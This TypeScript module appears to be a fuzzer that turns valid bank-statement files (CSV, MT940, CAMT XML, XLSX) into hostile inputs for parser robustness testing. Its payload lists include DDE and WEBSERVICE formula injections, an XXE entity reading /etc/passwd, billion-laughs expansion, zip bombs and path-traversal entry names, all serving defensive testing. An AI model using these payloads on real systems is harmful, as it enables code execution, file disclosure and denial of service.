/**
 * Mutations of a valid statement file into a hostile one. Every choice comes from the seeded
 * generator, so `(seed, index)` rebuilds the exact input; each mutation names itself for the
 * reproducer.
 */
import { unzipSync } from 'fflate';
import type { Kind, SeedFile } from './seeds';
import { utf16 } from './seeds';
import { concat, deflateRepeated, writeZip } from './zip-writer';
import type { ZipPart } from './zip-writer';

export type Rng = () => number;

export interface Mutated {
  name: string;
  bytes: Uint8Array;
  mutations: string[];
}

const encoder = new TextEncoder();
const int = (rng: Rng, n: number): number => Math.floor(rng() * n);
const pick = <T>(rng: Rng, items: readonly T[]): T => items[int(rng, items.length)] as T;
/** Sizes that cost seconds per input (a 40 MB cell, a million rows, a gigabyte bomb) come rarely. */
const sized = <T>(rng: Rng, usual: readonly T[], heavy: readonly T[]): T =>
  rng() < HEAVY_SHARE ? pick(rng, heavy) : pick(rng, usual);
const HEAVY_SHARE = 0.04;

/** Big crafted inputs are built once per run and reused. */
const cache = new Map<string, Uint8Array>();
function cached(key: string, build: () => Uint8Array): Uint8Array {
  let value = cache.get(key);
  if (!value) {
    value = build();
    cache.set(key, value);
  }
  return value;
}

// ---- byte-level --------------------------------------------------------------------------------

function flipBytes(rng: Rng, bytes: Uint8Array, log: string[]): Uint8Array {
  const out = bytes.slice();
  const n = 1 + int(rng, 8);
  for (let i = 0; i < n && out.length > 0; i++) out[int(rng, out.length)] = int(rng, 256);
  log.push(`flip ${n} bytes`);
  return out;
}

function flipBits(rng: Rng, bytes: Uint8Array, log: string[]): Uint8Array {
  const out = bytes.slice();
  const n = 1 + int(rng, 32);
  for (let i = 0; i < n && out.length > 0; i++) {
    const p = int(rng, out.length);
    out[p] = (out[p] ?? 0) ^ (1 << int(rng, 8));
  }
  log.push(`flip ${n} bits`);
  return out;
}

function truncate(rng: Rng, bytes: Uint8Array, log: string[]): Uint8Array {
  const at = int(rng, bytes.length);
  log.push(`truncate at ${at} of ${bytes.length}`);
  return bytes.slice(0, at);
}

function insertJunk(rng: Rng, bytes: Uint8Array, log: string[]): Uint8Array {
  const at = int(rng, bytes.length + 1);
  const junk = new Uint8Array(1 + int(rng, 512));
  for (let i = 0; i < junk.length; i++) junk[i] = int(rng, 256);
  log.push(`insert ${junk.length} random bytes at ${at}`);
  return concat([bytes.subarray(0, at), junk, bytes.subarray(at)]);
}

function deleteRange(rng: Rng, bytes: Uint8Array, log: string[]): Uint8Array {
  const at = int(rng, bytes.length);
  const n = 1 + int(rng, Math.min(4096, bytes.length - at));
  log.push(`delete ${n} bytes at ${at}`);
  return concat([bytes.subarray(0, at), bytes.subarray(at + n)]);
}

function duplicateRange(rng: Rng, bytes: Uint8Array, log: string[]): Uint8Array {
  const at = int(rng, bytes.length);
  const n = 1 + int(rng, Math.min(8192, bytes.length - at));
  const times = 1 + int(rng, 16);
  const copies = Array.from({ length: times }, () => bytes.subarray(at, at + n));
  log.push(`repeat ${n} bytes at ${at} ${times} times`);
  return concat([bytes.subarray(0, at + n), ...copies, bytes.subarray(at + n)]);
}

function crossover(rng: Rng, bytes: Uint8Array, other: SeedFile, log: string[]): Uint8Array {
  const at = int(rng, bytes.length);
  const from = int(rng, other.bytes.length);
  log.push(`splice ${other.name} from ${from} at ${at}`);
  return concat([bytes.subarray(0, at), other.bytes.subarray(from)]);
}

function byteMutation(rng: Rng, bytes: Uint8Array, others: readonly SeedFile[], log: string[]): Uint8Array {
  if (bytes.length === 0) return insertJunk(rng, bytes, log);
  switch (int(rng, 7)) {
    case 0:
      return flipBytes(rng, bytes, log);
    case 1:
      return flipBits(rng, bytes, log);
    case 2:
      return truncate(rng, bytes, log);
    case 3:
      return insertJunk(rng, bytes, log);
    case 4:
      return deleteRange(rng, bytes, log);
    case 5:
      return duplicateRange(rng, bytes, log);
    default:
      return crossover(rng, bytes, pick(rng, others), log);
  }
}

// ---- text-level (CSV, MT940, CAMT and the XML inside an XLSX) ---------------------------------

const FORMULAS = [
  '=HYPERLINK("http://example.invalid/x","click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '=WEBSERVICE("http://example.invalid/?"&A1)',
  "='file:///etc/passwd'#$A$1",
];

function textMutation(rng: Rng, text: string, kind: Kind | 'sheet-xml', log: string[]): string {
  const lines = text.split('\n');
  switch (int(rng, 9)) {
    case 0: {
      const size = sized(rng, [70_000, 1 << 20], [8 << 20, 40 << 20]);
      const at = int(rng, lines.length);
      const char = pick(rng, ['A', '9', ';', '"', ' ', 'Ж', '\u0000']);
      lines[at] = `${lines[at] ?? ''}${char.repeat(size)}`;
      log.push(`huge cell: ${size} × ${JSON.stringify(char)} on line ${at + 1}`);
      return lines.join('\n');
    }
    case 1: {
      // Many rows: repeat the data lines up to a target count.
      const target = sized(rng, [2_000, 20_000], [200_000, 1_048_577]);
      const body = lines.slice(Math.min(lines.length - 1, 12)).filter((l) => l.trim() !== '');
      if (body.length === 0) return text;
      const out = lines.slice(0, 12);
      // Stay under V8's longest string (~512 M characters) whatever the line length.
      const budget = 400_000_000;
      let chars = 0;
      for (let i = 0; out.length < target && chars < budget; i++) {
        const line = body[i % body.length] ?? '';
        chars += line.length + 1;
        out.push(line);
      }
      log.push(`${target} lines`);
      return out.join('\n');
    }
    case 2: {
      const n = 1 + int(rng, 5);
      for (let i = 0; i < n; i++) {
        const at = int(rng, lines.length);
        const formula = pick(rng, FORMULAS);
        const line = lines[at] ?? '';
        const sep = line.includes(';') ? ';' : ',';
        const cells = line.split(sep);
        cells[int(rng, cells.length)] = kind === 'sheet-xml' ? formula : `"${formula.replace(/"/g, '""')}"`;
        lines[at] = cells.join(sep);
      }
      log.push(`${n} formula cells`);
      return lines.join('\n');
    }
    case 3: {
      const at = int(rng, lines.length);
      lines.splice(at, 0, '"unclosed quote; with ""escapes" and ;delimiters');
      log.push(`unclosed quote at line ${at + 1}`);
      return lines.join('\n');
    }
    case 4: {
      const newline = pick(rng, ['\r\n', '\r', '\n\n', '\u2028']);
      log.push(`newlines → ${JSON.stringify(newline)}`);
      return text.replace(/\r?\n/g, newline);
    }
    case 5: {
      const [from, to] = pick(rng, [
        [';', ','],
        [',', ';'],
        [';', '\t'],
        ['.', ','],
        [',', '.'],
        ['-', ''],
        [':', ''],
      ] as const);
      log.push(`replace ${JSON.stringify(from)} → ${JSON.stringify(to)}`);
      return text.split(from).join(to);
    }
    case 6: {
      // Shuffle lines.
      for (let i = lines.length - 1; i > 0; i--) {
        const j = int(rng, i + 1);
        [lines[i], lines[j]] = [lines[j] ?? '', lines[i] ?? ''];
      }
      log.push('shuffle lines');
      return lines.join('\n');
    }
    case 7: {
      const n = 1 + int(rng, 4);
      const strange = [
        '9'.repeat(400),
        '1e308',
        '-0',
        'NaN',
        'Infinity',
        '31.02.2024',
        '0000-00-00',
        '\uFFFD',
        '\u202E',
      ];
      for (let i = 0; i < n; i++) {
        const at = int(rng, lines.length);
        const line = lines[at] ?? '';
        const p = int(rng, line.length + 1);
        lines[at] = line.slice(0, p) + pick(rng, strange) + line.slice(p);
      }
      log.push(`${n} strange values`);
      return lines.join('\n');
    }
    default: {
      const at = int(rng, lines.length);
      const count = pick(rng, [1000, 20_000]);
      lines[at] = `${lines[at] ?? ''}${';x'.repeat(count)}`;
      log.push(`${count} extra columns on line ${at + 1}`);
      return lines.join('\n');
    }
  }
}

function reencode(rng: Rng, text: string, log: string[]): Uint8Array {
  switch (int(rng, 4)) {
    case 0:
      log.push('encode UTF-16LE');
      return utf16(text, true, rng() < 0.5);
    case 1:
      log.push('encode UTF-16BE');
      return utf16(text, false, rng() < 0.5);
    case 2: {
      // Cyrillic as KOI8-R-like single bytes: the wrong code page for the sniffer to guess.
      log.push('encode Latin-1 truncation');
      const out = new Uint8Array(text.length);
      for (let i = 0; i < text.length; i++) out[i] = text.charCodeAt(i) & 0xff;
      return out;
    }
    default:
      log.push('encode UTF-8 with BOM');
      return encoder.encode(`\uFEFF${text}`);
  }
}

// ---- XML -----------------------------------------------------------------------------------------

function billionLaughs(levels: number): string {
  let dtd = '<!ENTITY lol0 "lollollollollollollollollollol">';
  for (let i = 1; i < levels; i++) dtd += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
  return `<?xml version="1.0"?>\n<!DOCTYPE Document [${dtd}]>\n`;
}

function xmlMutation(rng: Rng, xml: string, log: string[]): string {
  switch (int(rng, 7)) {
    case 0: {
      const levels = pick(rng, [5, 10, 12]);
      log.push(`billion laughs, ${levels} levels`);
      const body = xml.replace(/^<\?xml[^>]*\?>\s*/, '');
      return billionLaughs(levels) + body.replace(/<Nm>[^<]*<\/Nm>/, `<Nm>&lol${levels - 1};</Nm>`);
    }
    case 1: {
      const depth = sized(rng, [65, 1000], [100_000, 1_000_000]);
      log.push(`nesting ${depth} deep`);
      const at = xml.indexOf('<Ntry>');
      const p = at >= 0 ? at : Math.floor(xml.length / 2);
      return `${xml.slice(0, p)}${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}${xml.slice(p)}`;
    }
    case 2: {
      log.push('external entity');
      const body = xml.replace(/^<\?xml[^>]*\?>\s*/, '');
      return `<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n${body.replace(/<Nm>[^<]*<\/Nm>/, '<Nm>&x;</Nm>')}`;
    }
    case 3: {
      const n = 1 + int(rng, 5);
      let out = xml;
      for (let i = 0; i < n; i++) {
        const closes = [...out.matchAll(/<\/[A-Za-z:]+>/g)];
        const m = closes.length > 0 ? pick(rng, closes) : undefined;
        if (m?.index !== undefined) out = out.slice(0, m.index) + out.slice(m.index + m[0].length);
      }
      log.push(`drop ${n} closing tags`);
      return out;
    }
    case 4: {
      const opens = [...xml.matchAll(/<(Ntry|Stmt|Bal|Amt|TxDtls)\b[\s\S]*?<\/\1>/g)];
      const m = opens.length > 0 ? pick(rng, opens) : undefined;
      if (!m || m.index === undefined) return xml;
      const times = sized(rng, [2, 100], [20_000]);
      log.push(`repeat <${m[1]}> ${times} times`);
      return xml.slice(0, m.index) + m[0].repeat(times) + xml.slice(m.index + m[0].length);
    }
    case 5: {
      const size = sized(rng, [1 << 16], [1 << 22]);
      log.push(`attribute of ${size} chars`);
      return xml.replace(/<Amt /, `<Amt x="${'&amp;'.repeat(size / 5)}" `);
    }
    default: {
      const entities = [
        '&#0;',
        '&#x110000;',
        '&#xD800;',
        '&unknown;',
        '&amp',
        '&#99999999;',
        ']]>',
        '<![CDATA[x',
      ];
      const n = 1 + int(rng, 4);
      let out = xml;
      for (let i = 0; i < n; i++) {
        const p = int(rng, out.length);
        out = out.slice(0, p) + pick(rng, entities) + out.slice(p);
      }
      log.push(`${n} bad entities/CDATA`);
      return out;
    }
  }
}

// ---- XLSX (zip) ----------------------------------------------------------------------------------

const BOMB_FILL = new Uint8Array(1 << 20).fill(0x20);

function bomb(size: number): { data: Uint8Array; size: number; crc: number } {
  const built = cached(`bomb-${size}`, () => {
    const { data, crc } = deflateRepeated(BOMB_FILL, size);
    const out = new Uint8Array(data.length + 4);
    out.set(data);
    new DataView(out.buffer).setUint32(data.length, crc, true);
    return out;
  });
  const data = built.subarray(0, built.length - 4);
  const crc = new DataView(built.buffer, built.byteOffset).getUint32(built.length - 4, true);
  return { data, size, crc };
}

/** A sheet of `rows` rows (Excel's maximum is 1,048,576), each a date and an amount. */
function bigSheetXlsx(rows: number): Uint8Array {
  return cached(`rows-${rows}`, () => {
    const head =
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' +
      '<row r="1"><c r="A1" t="inlineStr"><is><t>Дата</t></is></c><c r="B1" t="inlineStr"><is><t>Сумма</t></is></c></row>';
    const parts: string[] = [head];
    for (let r = 2; r <= rows; r++)
      parts.push(
        `<row r="${r}"><c r="A${r}"><v>${45000 + (r % 300)}</v></c><c r="B${r}"><v>${r % 977}</v></c></row>`,
      );
    parts.push('</sheetData></worksheet>');
    return writeZip([
      ...skeleton(),
      { name: 'xl/worksheets/sheet1.xml', data: encoder.encode(parts.join('')) },
    ]);
  });
}

function skeleton(): ZipPart[] {
  const part = (name: string, text: string): ZipPart => ({ name, data: encoder.encode(text) });
  return [
    part(
      '[Content_Types].xml',
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    ),
    part(
      '_rels/.rels',
      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    ),
    part(
      'xl/workbook.xml',
      '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Выписка" sheetId="1" r:id="rId1"/></sheets></workbook>',
    ),
    part(
      'xl/_rels/workbook.xml.rels',
      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    ),
  ];
}

function zipMutation(rng: Rng, bytes: Uint8Array, log: string[]): Uint8Array {
  let files: Record<string, Uint8Array>;
  try {
    files = unzipSync(bytes);
  } catch {
    return flipBytes(rng, bytes, log);
  }
  let parts: ZipPart[] = Object.entries(files).map(([name, data]) => ({ name, data }));
  const sheet = parts.find((p) => /^xl\/worksheets\/sheet\d+\.xml$/.test(p.name));
  switch (int(rng, 10)) {
    case 0:
      for (let i = parts.length - 1; i > 0; i--) {
        const j = int(rng, i + 1);
        [parts[i], parts[j]] = [parts[j] as ZipPart, parts[i] as ZipPart];
      }
      log.push('shuffle zip entries');
      break;
    case 1: {
      const victim = pick(rng, parts);
      const mangled = { name: victim.name, data: flipBytes(rng, victim.data, []) };
      parts.splice(int(rng, parts.length + 1), 0, mangled);
      log.push(`duplicate entry ${victim.name} (second copy damaged)`);
      break;
    }
    case 2: {
      const victim = pick(rng, parts);
      parts = parts.filter((p) => p !== victim);
      log.push(`drop entry ${victim.name}`);
      break;
    }
    case 3: {
      const victim = pick(
        rng,
        parts.filter((p) => p.name.endsWith('.xml')),
      );
      const kind = victim.name.includes('worksheets') ? 'sheet-xml' : 'camt053';
      const text = new TextDecoder().decode(victim.data);
      const mutated = rng() < 0.5 ? textMutation(rng, text, kind, log) : xmlMutation(rng, text, log);
      victim.data = encoder.encode(mutated);
      log.push(`in ${victim.name}`);
      break;
    }
    case 4: {
      if (!sheet) break;
      const size = sized(rng, [1 << 16, 1 << 20], [16 << 20]);
      const text = new TextDecoder().decode(sheet.data);
      sheet.data = encoder.encode(
        text.replace(
          /<c r="([A-Z]+\d+)"[^>]*?(\/>|>[\s\S]*?<\/c>)/,
          `<c r="$1" t="inlineStr"><is><t>${'Ж'.repeat(size)}</t></is></c>`,
        ),
      );
      log.push(`huge inline cell of ${size} chars in ${sheet.name}`);
      break;
    }
    case 5: {
      if (!sheet) break;
      const text = new TextDecoder().decode(sheet.data);
      sheet.data = encoder.encode(
        text.replace(
          /<c r="([A-Z]+\d+)"([^>]*?)>(?:<f>[^<]*<\/f>)?<v>/g,
          (whole, ref: string, attrs: string) =>
            rng() < 0.2
              ? `<c r="${ref}"${attrs}><f>[1]Sheet1!A1+WEBSERVICE("http://example.invalid")</f><v>`
              : whole,
        ),
      );
      parts.push({
        name: 'xl/externalLinks/externalLink1.xml',
        data: encoder.encode(
          '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>',
        ),
      });
      parts.push({
        name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
        data: encoder.encode(
          '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///C:/secret.xlsx" TargetMode="External"/></Relationships>',
        ),
      });
      log.push('formulas and an external link');
      break;
    }
    case 6: {
      // Zip bomb: a part that inflates to far more than it is, declared honestly or with a lie.
      const size = sized(rng, [8 << 20], [64 << 20, 600 << 20, 2200 << 20]);
      const lie = rng() < 0.5;
      const b = bomb(size);
      const target = sheet?.name ?? 'xl/worksheets/sheet1.xml';
      parts = parts.filter((p) => p.name !== target);
      parts.push({
        name: target,
        data: b.data,
        deflated: { size: b.size, crc: b.crc },
        ...(lie ? { declaredSize: 1024 } : {}),
      });
      log.push(`zip bomb: ${target} inflates to ${size} bytes${lie ? ', declares 1 KiB' : ''}`);
      break;
    }
    case 7: {
      const rows = sized(rng, [20_000], [1_048_576, 1_048_577]);
      log.push(`crafted sheet of ${rows} rows`);
      return bigSheetXlsx(rows);
    }
    case 8: {
      const victim = pick(rng, parts);
      victim.stored = true;
      log.push(`store ${victim.name} uncompressed`);
      break;
    }
    default: {
      const victim = pick(rng, parts);
      victim.name = pick(rng, ['', '../../evil.xml', 'xl/workbook.xml', '/abs.xml', 'x'.repeat(300)]);
      log.push(`rename an entry to ${JSON.stringify(victim.name.slice(0, 20))}`);
    }
  }
  return writeZip(parts);
}

// ---- entry point -------------------------------------------------------------------------------

export function mutate(rng: Rng, seed: SeedFile, others: readonly SeedFile[]): Mutated {
  const log: string[] = [];
  let bytes = seed.bytes;
  const rounds = 1 + (rng() < 0.3 ? int(rng, 3) : 0);
  for (let round = 0; round < rounds; round++) {
    const choice = rng();
    if (choice < 0.4) bytes = byteMutation(rng, bytes, others, log);
    else if (seed.kind === 'xlsx') bytes = zipMutation(rng, bytes, log);
    else if (seed.kind === 'xls') bytes = byteMutation(rng, bytes, others, log);
    else {
      const decoder = new TextDecoder(
        seed.kind === 'csv-cp1251' ? 'windows-1251' : seed.kind === 'csv-utf16' ? utf16Label(bytes) : 'utf-8',
      );
      const text = decoder.decode(bytes);
      if (choice < 0.55) bytes = reencode(rng, text, log);
      else if (seed.kind === 'camt053' && choice < 0.8) bytes = encoder.encode(xmlMutation(rng, text, log));
      else {
        const mutated = textMutation(rng, text, seed.kind, log);
        bytes = seed.kind === 'csv-utf16' ? utf16(mutated, true) : encoder.encode(mutated);
      }
    }
  }
  return { name: seed.name, bytes, mutations: log };
}

function utf16Label(bytes: Uint8Array): string {
  return bytes[0] === 0xfe && bytes[1] === 0xff ? 'utf-16be' : 'utf-16le';
}
